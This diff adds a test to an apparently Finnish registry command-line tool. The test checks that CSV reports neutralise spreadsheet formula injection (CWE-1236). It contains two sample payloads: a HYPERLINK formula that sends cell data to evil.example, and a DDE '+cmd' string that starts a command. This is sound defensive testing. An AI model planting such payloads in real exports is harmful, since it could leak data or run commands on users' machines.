@@ -80,6 +80,28 @@ def test_rights_as_of(tunnus):
     assert [r["title"] for r in rows if r["org_unit"] == "Tekninen"] == ['Rehtori, "vt."']
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_text(tunnus):
+    """CSV injection (CWE-1236): a title from a feed that a spreadsheet
+    would take for a formula gets a leading apostrophe in CSV reports; JSON
+    keeps the value as it is, and phone numbers are not touched."""
+    setup_registry(tunnus)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    tunnus.run("affiliation", "add", "number:1", "--kind", "staff", "--org-unit", "Tekninen",
+               "--title", evil, "--from", "2025-08-01")
+    tunnus.run("affiliation", "add", "number:1", "--kind", "staff", "--org-unit", "Sivistys",
+               "--title", "+cmd|' /C calc'!A0", "--from", "2025-08-01")
+    rows, _ = parse_csv(tunnus.run("--as-of", "2025-09-01", "report", "rights").stdout)
+    titles = {r["title"] for r in rows}
+    assert "'" + evil in titles and "'+cmd|' /C calc'!A0" in titles
+    assert evil not in titles
+    assert 'Rehtori, "vt."' in titles
+    rights = tunnus.json("--as-of", "2025-09-01", "report", "rights")
+    assert evil in {r["title"] for r in rights}
+    rows, _ = parse_csv(tunnus.run("report", "changes").stdout)
+    phone = [r for r in rows if "+358401112223" in r["changes"]]
+    assert phone and not phone[0]["changes"].startswith("'")
+
+
 def test_changes_report(tunnus):
     setup_registry(tunnus)
     ch = tunnus.json("report", "changes")
